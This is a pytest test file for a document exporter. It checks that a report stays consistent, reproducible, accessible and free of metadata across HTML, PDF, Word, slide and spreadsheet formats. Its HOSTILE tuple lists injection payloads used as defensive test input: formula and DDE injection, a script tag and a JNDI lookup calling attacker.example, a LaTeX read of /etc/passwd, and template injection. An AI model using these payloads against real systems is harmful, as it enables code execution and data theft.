"""One document in every form: the same words, the same figures, the same bytes each time; and text stays text."""

from __future__ import annotations

import hashlib
import io
import json
import math
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import fields, is_dataclass, replace
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pptx
import pytest
from pptx.util import Inches
from pypdf import PdfReader

from hub.documents.fitting import Room, chart_pieces, number_form, pieces
from hub.documents.frozen import from_json, to_json
from hub.documents.model import Cell, Chart, ChartKind, Column, Document, Kind, Length, Table
from hub.documents.writers import Form, write
from tests.client import Page
from tests.documents.made import HANDLING, HIDDEN, MADE_AT, MARKING, WARDS, document, line_chart, ward_chart, ward_table
from tests.documents.read_back import (
    files_in,
    shapes_in_slides,
    sheets_in,
    squeezed,
    tables_in_word,
    trees_in,
    what_runs,
    words_in,
)
from tests.hotspots.test_paper import structure

HOSTILE = (
    '=HYPERLINK("http://attacker.example/","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script src=//attacker.example></script><b>&amp;]]>",
    '#import "x.typ": * $a^2$ *bold* @ref \\u{41} `raw` // gone',
    "\\input{/etc/passwd} {{ 7*7 }} {% raw %} ${jndi:ldap://attacker.example}",
    "\u200fשלום\u200e 😀 𝒜 日本 é",
    "Llanfairpwllgwyngyll" * 8,
)
PAPER = (Form.PDF, Form.LARGE_PRINT)
TABLES = (Form.CSV, Form.XLSX, Form.ODS)
PACKED = (Form.WORD, Form.SLIDES, Form.XLSX, Form.ODS)


@pytest.fixture(scope="module")
def written() -> dict[Form, bytes]:
    """The document in every form."""
    return {form: write(document(), form).content for form in Form}


def hostile(first: int = 0) -> Document:
    """The document with hostile words in place of each of its own, the same for the same, in turn from the first."""
    met: dict[str, str] = {}

    def changed(value: Any) -> Any:
        if isinstance(value, tuple):
            return tuple(map(changed, value))
        if type(value) is str:
            return met.setdefault(value, f"{HOSTILE[(first + len(met)) % len(HOSTILE)]} {len(met)}")
        if is_dataclass(value):
            names = [one.name for one in fields(value) if one.name not in {"language", "key", "length"}]
            return replace(value, **{name: changed(getattr(value, name)) for name in names})
        return value

    made: Document = changed(document())
    return made


def figures_of(made: Document) -> Iterator[Cell]:
    for table in made.tables:
        for row in table.rows:
            yield from row[1:]


# --- The same in every form ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", [Form.HTML, *PAPER, Form.WORD], ids=str)
def test_a_form_to_be_read_says_all_the_words(form: Form, written: dict[Form, bytes]) -> None:
    found = squeezed(words_in(form, written[form]))
    made = document()
    for cell in figures_of(made):
        assert squeezed(cell.shown) in found, cell
    for part in made.parts:
        for name, words in vars(part).items():
            if type(words) is str and name not in {"words", "key"}:
                assert squeezed(words) in found, words
    for words in (made.title, made.subtitle, *made.footer, MARKING, HANDLING):
        assert squeezed(words) in found


@pytest.mark.parametrize("form", TABLES, ids=str)
def test_a_form_to_be_reckoned_with_has_the_same_values(form: Form, written: dict[Form, bytes]) -> None:
    sheets = list(sheets_in(form, written[form]).values())
    made = document()
    assert len(sheets) == len(made.tables) + 1
    for table, rows in zip(made.tables, sheets[1:], strict=True):
        wide = len(table.columns)
        for wanted in table.rows:
            row = [wanted[0].shown, *(cell.shown if cell.value is None else cell.value for cell in wanted[1:])]
            assert row in [found[:wide] for found in rows]
    said = words_in(form, written[form])
    assert {*made.notes, made.footer[0], made.title} <= {line.strip() for line in said.splitlines()}


def test_a_spreadsheet_writes_a_number_as_the_document_does(written: dict[Form, bytes]) -> None:
    patterns = {
        ("12,405", 12405): "#,##0",
        ("245", 245): "#,##0",
        ("2024", 2024): "0",
        ("18.40", 18.4): "#,##0.00",
        ("27.5%", 27.5): '#,##0.0"%"',
        ("−12.5%", -12.5): '"+"#,##0.0"%";"−"#,##0.0"%";#,##0.0"%"',
        ("about a tenth", 0.1): None,
        ('5"', 5): None,
    }
    for (shown, value), pattern in patterns.items():
        form = number_form(Cell(shown, value))
        assert (form and form.pattern) == pattern, shown
    book = openpyxl.load_workbook(io.BytesIO(written[Form.XLSX]))
    assert [cell.number_format for cell in book["3 Wards"][4]][1:3] == ["#,##0", "#,##0.00"]
    sheet = book["3 Wards"]
    assert sheet.freeze_panes == "B4"
    assert sheet.oddHeader.center.text == sheet.oddFooter.center.text == f"{MARKING} – {HANDLING}"
    assert [sheet.cell(1, 1).value, sheet.cell(sheet.max_row, 1).value] == [f"{MARKING} – {HANDLING}"] * 2


def test_slides_have_the_same_values_in_charts_that_can_be_edited(written: dict[Form, bytes]) -> None:
    shapes = list(shapes_in_slides(written[Form.SLIDES]))
    tables = [[[cell.text for cell in row.cells] for row in one.table.rows] for one in shapes if one.has_table]
    assert [row[0] for row in tables[1]] == ["Ward", *(ward[0] for ward in WARDS)]
    assert tables[1][3] == ["Castle & Keep", HIDDEN, HIDDEN, HIDDEN]
    drawn = [one for one in shapes if one.has_chart]
    made = [part for part in document().parts if isinstance(part, Chart)]
    assert len(drawn) == len(made) == 4
    for shape, chart in zip(drawn, made, strict=True):
        series = {one.name: list(one.values) for one in shape.chart.plots[0].series}
        book = openpyxl.load_workbook(io.BytesIO(shape.chart.part.chart_workbook.xlsx_part.blob)).active
        columns = {column[0]: list(column[1:]) for column in zip(*book.values, strict=True)}
        for one in chart.series:
            assert series[one.name] == [point.figure.value for point in one.points] == columns[one.name]
        assert shape.element.nvGraphicFramePr.cNvPr.get("descr") == chart.words
        assert shape.chart._chartSpace.chart.find("{*}dispBlanksAs").get("val") == "gap"
    kinds = [shape.chart._chartSpace.chart.plotArea.find("{*}lineChart/{*}hiLowLines") is not None for shape in drawn]
    assert kinds == [chart.kind == "interval" for chart in made]


def test_written_again_elsewhere_each_form_is_the_same_byte_for_byte(written: dict[Form, bytes]) -> None:
    again = (
        "import hashlib, json, sys;"
        "from hub.documents.frozen import from_json;"
        "from hub.documents.writers import Form, write;"
        "made = from_json(sys.stdin.buffer.read());"
        "print(json.dumps({form.value: hashlib.sha256(write(made, form).content).hexdigest() for form in Form}))"
    )
    environment = {**os.environ, "PYTHONHASHSEED": "7", "TZ": "Asia/Tokyo", "USER": "somebody", "LC_ALL": "C.UTF-8"}
    root = Path(__file__).parents[2]
    told = subprocess.run(
        [sys.executable, "-c", again],
        cwd=root,
        env=environment,
        input=to_json(document()),
        capture_output=True,
        check=True,
    )
    assert json.loads(told.stdout) == {form: hashlib.sha256(content).hexdigest() for form, content in written.items()}
    assert from_json(to_json(document())) == document()


# --- Text stays text -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", Form, ids=str)
def test_hostile_words_come_out_as_words_and_run_nothing(form: Form) -> None:
    # In the quick ones each of the document's texts takes each of the hostile ones' forms.
    for first in range(len(HOSTILE) if form in TABLES else 1):
        content = write(hostile(first), form).content
        assert list(what_runs(form, content)) == []
        found = squeezed(words_in(form, content))
        missing = [words for words in HOSTILE if squeezed(words).replace("日本", "") not in found.replace("日本", "")]
        # On paper words run in the order in which they are seen, and a letter that no typeface has is a mark.
        assert [words for words in missing if form not in PAPER or words is not HOSTILE[5]] == []


@pytest.mark.parametrize("form", PACKED, ids=str)
def test_a_file_names_no_person_and_bears_no_moment_but_its_own(form: Form, written: dict[Form, bytes]) -> None:
    for name, tree in trees_in(written[form]):
        for tag in ("creator", "lastModifiedBy", "Company", "Manager", "initial-creator", "description", "generator"):
            assert [one.text for one in tree.iter(f"{{*}}{tag}") if one.text] == [], (name, tag)
        dates = [
            one.text for tag in ("created", "modified", "creation-date", "date") for one in tree.iter(f"{{*}}{tag}")
        ]
        assert {*dates} <= {f"{MADE_AT:%Y-%m-%dT%H:%M:%SZ}"}, name
    assert not [name for name in files_in(written[form]) if "thumbnail" in name or "printerSettings" in name]
    everything = b"".join(files_in(written[form]).values())
    assert b"Canny" not in everything


# --- Each form's own promises ----------------------------------------------------------------------------------------


def test_a_web_page_is_strict_marked_and_asks_for_nothing(written: dict[Form, bytes]) -> None:
    page = Page(written[Form.HTML].decode())
    assert page.h1 == "Alder: quarterly update"
    assert [one.tag for one in page.all("h1", "h2", "h3")] == ["h1", "h2", "h3", "h2"]
    assert page.tree.get("lang") == "en-GB"
    assert page.title == f"{MARKING}: Alder: quarterly update"
    addresses = [one.get("src") or one.get("srcset") for one in page.all("img", "source")]
    assert addresses
    assert all(address.startswith("data:image/svg+xml;base64,") for address in addresses)
    assert [one.get("alt") for one in page.all("img")] == [
        part.words for part in document().parts if isinstance(part, Chart)
    ]
    heads = [one.get("scope") for one in page.all("th")]
    assert {*heads} == {"col", "row"}
    assert page.text.count(f"{MARKING} – {HANDLING}") == 2
    style = next(page.all("style")).text
    assert "\\002013" in style
    assert style.count(f'content: "{MARKING.replace("-", chr(92) + "00002d")}') == 2


def test_what_is_published_bears_no_marking() -> None:
    public = replace(document().read(Length.SENTENCE), marking="", handling="")
    for form in (Form.HTML, Form.PDF, Form.WORD, Form.SLIDES):
        assert "OFFICIAL" not in words_in(form, write(public, form).content)


@pytest.mark.parametrize("form", PAPER, ids=str)
def test_paper_is_tagged_marked_and_of_a_size_to_be_read(form: Form, written: dict[Form, bytes]) -> None:
    reader = PdfReader(io.BytesIO(written[form]))
    root = reader.root_object
    assert root["/MarkInfo"]["/Marked"]
    assert root["/Lang"] == "en-GB"
    assert b"<pdfuaid:part>1</pdfuaid:part>" in root["/Metadata"].get_data()
    assert reader.metadata.title == f"{MARKING}: Alder: quarterly update"
    assert reader.metadata.creation_date == MADE_AT
    assert [one.title for one in flattened(reader.outline)] == [
        "Alder: quarterly update", "What changed", "Where", "By itself",
    ]  # fmt: skip
    elements = structure(root["/StructTreeRoot"])
    kinds = [one.get("/S") for one in elements]
    assert {"/H1", "/H2", "/H3", "/Table", "/TH", "/Caption", "/L", "/Figure"} <= {*kinds}
    charts = [part.words for part in document().parts if isinstance(part, Chart)]
    assert [one["/Alt"] for one in elements if "/Alt" in one] == charts
    smallest = math.inf
    for page in reader.pages:
        assert squeezed(page.extract_text()).count(squeezed(f"{MARKING} {HANDLING}")) == 2
        smallest = min(smallest, *sizes_on(page))
    assert smallest >= (16 if form is Form.LARGE_PRINT else 8.5), f"the smallest type is {smallest:.1f} points"


def flattened(outline: list[Any]) -> Iterator[Any]:
    for each in outline:
        yield from flattened(each) if isinstance(each, list) else [each]


def sizes_on(page: Any) -> list[float]:
    """The size of each piece of type on a page, in points, as it is seen."""
    found = []

    def visit(text: str, cm: list[float], tm: list[float], _font: object, size: float) -> None:
        if text.strip():
            scale = [math.sqrt(abs(one[0] * one[3] - one[1] * one[2])) for one in (cm, tm)]
            found.append(size * scale[0] * scale[1])

    page.extract_text(visitor_text=visit)
    return found


def test_word_has_real_headings_tables_and_words_for_its_pictures(written: dict[Form, bytes]) -> None:
    made = docx.Document(io.BytesIO(written[Form.WORD]))
    headings = [(one.style.name, one.text) for one in made.paragraphs if one.style.name.startswith("Heading")]
    assert headings == [
        ("Heading 1", "Alder: quarterly update"), ("Heading 2", "What changed"), ("Heading 3", "Where"),
        ("Heading 2", "By itself"),
    ]  # fmt: skip
    assert made.core_properties.title == f"{MARKING}: Alder: quarterly update"
    languages = {one.get(f"{{{one.nsmap['w']}}}val") for one in made.styles.element.iter("{*}lang")}
    assert languages == {"en-GB"}
    tables = tables_in_word(written[Form.WORD])
    assert [len(one) for one in tables] == [len(one.rows) + 1 for one in document().tables]
    for table in made.tables:
        assert table.rows[0]._tr.find("{*}trPr/{*}tblHeader") is not None
        look = table._tbl.tblPr.find("{*}tblLook")
        assert look.get(f"{{{look.nsmap['w']}}}firstColumn") == "1"
    pictures = [one.get("descr") for one in made.element.body.iter("{*}docPr")]
    assert pictures == [part.words for part in document().parts if isinstance(part, Chart)]
    section = made.sections[0]
    assert section.header.paragraphs[0].text == section.footer.paragraphs[0].text == f"{MARKING} – {HANDLING}"


def test_each_slide_has_a_title_of_its_own_its_marking_and_room(written: dict[Form, bytes]) -> None:
    slides = list(pptx.Presentation(io.BytesIO(written[Form.SLIDES])).slides)
    titles = [slide.shapes.title.text for slide in slides]
    assert all(titles)
    assert len({*titles}) == len(titles)
    for slide in slides:
        shapes = list(slide.shapes)
        assert shapes[0] == slide.shapes.title
        assert [one.text_frame.text for one in shapes if one.name == "Marking"] == [f"{MARKING} – {HANDLING}"] * 2
        content = [one for one in shapes if one.name not in {"Marking", "Slide number", "Notes"}]
        assert all(one.top + one.height <= Inches(7.05) for one in content), slide.shapes.title.text


def test_a_table_that_does_not_fit_is_taken_apart_and_loses_nothing() -> None:
    table = ward_table()
    two_rows = Room(letters=1_000, aside=0, height=3, line=1, around=0)
    parts = pieces(table, columns=3, room=two_rows)
    assert [one.title for one in parts] == [f"Wards ({at} of 4)" for at in range(1, 5)]
    assert {row[0].shown for one in parts for row in one.rows} == {ward[0] for ward in WARDS}
    kept = {
        (row[0], column, cell)
        for one in parts
        for row in one.rows
        for column, cell in zip(one.columns, row, strict=True)
    }
    assert kept == {
        (row[0], column, cell) for row in table.rows for column, cell in zip(table.columns, row, strict=True)
    }
    assert [one.notes for one in parts] == [(), (), (), table.notes]
    assert pieces(table, columns=8) == [table]


def test_on_a_slide_long_words_make_rows_higher_and_notes_stand_clear_of_the_table() -> None:
    """What a slide holds is told by its words: the same rows with long names go over more slides."""
    columns = (Column("What people say"), *(Column(f"Said in {year}", Kind.NUMBER) for year in range(2020, 2026)))
    short, long = (
        "Trust",
        "Trust in the police to be there when they are needed, by those who were asked about it " * 2,
    )
    slides_of = {}
    for name in (short, long):
        rows = tuple((Cell(f"{name} {at}"), *[Cell("1,234", 1234)] * 6) for at in range(24))
        table = Table(f"Answers: {name[:5]}", columns, rows, ("A note on how it was asked, and of whom. " * 6,))
        deck = pptx.Presentation(io.BytesIO(write(replace(document(), parts=(table,)), Form.SLIDES).content))
        slides_of[name] = list(deck.slides)
        for slide in slides_of[name]:
            for frame in (shape for shape in slide.shapes if shape.has_table):
                below = frame.top + sum(row.height for row in frame.table.rows)
                assert below <= Inches(6.75)
                assert all(one.top >= below for one in slide.shapes if one.name == "Notes")
        shown = [
            row.cells[0].text_frame.text
            for slide in slides_of[name]
            for shape in slide.shapes
            if shape.has_table
            for row in list(shape.table.rows)[1:]
        ]
        assert shown == [f"{name} {at}" for at in range(24)]
    assert len(slides_of[long]) >= 3 * len(slides_of[short]) - 2


def test_a_chart_that_does_not_fit_is_taken_apart_on_one_scale_and_loses_nothing() -> None:
    chart = ward_chart()
    points = tuple(replace(chart.series[0].points[0], label=f"Ward {at}") for at in range(40))
    many = replace(chart, series=(replace(chart.series[0], points=points),))
    parts = chart_pieces(many, rows=13)
    assert [len(one.labels) for one in parts] == [10] * 4
    assert tuple(label for one in parts for label in one.labels) == many.labels
    assert chart_pieces(chart, rows=13) == [chart]
    panels = replace(line_chart(ChartKind.PANELS), series=line_chart().series * 4)
    assert [len(one.series) for one in chart_pieces(panels, panels=6)] == [4, 4]
    tall = replace(document(), parts=(many, replace(panels, series=panels.series * 4)))
    reader = PdfReader(io.BytesIO(write(tall, Form.LARGE_PRINT).content))
    shown = "".join(squeezed(page.extract_text()) for page in reader.pages)
    assert all(shown.count(f"Ward{at}1640") + shown.count(f"Ward{at}18") for at in range(40))
    for page in reader.pages:
        assert min(places_on(page)) > 60, "something stands in the footer"
    slides = list(shapes_in_slides(write(tall, Form.SLIDES).content))
    axes = [(one.chart.value_axis.minimum_scale, one.chart.value_axis.maximum_scale) for one in slides if one.has_chart]
    assert len(axes) == 3 + 6
    assert len(set(axes[:3])) == 1


def places_on(page: Any) -> list[float]:
    """How far above the page's lower edge each line stands, without the footer's own lines."""
    found = []

    def visit(text: str, cm: list[float], tm: list[float], _font: object, _size: float) -> None:
        if text.strip() and MARKING not in text and not re.search(r"Page|of|\d+$", text):
            found.append(cm[1] * tm[4] + cm[3] * tm[5] + cm[5])

    page.extract_text(visitor_text=visit)
    return found or [math.inf]
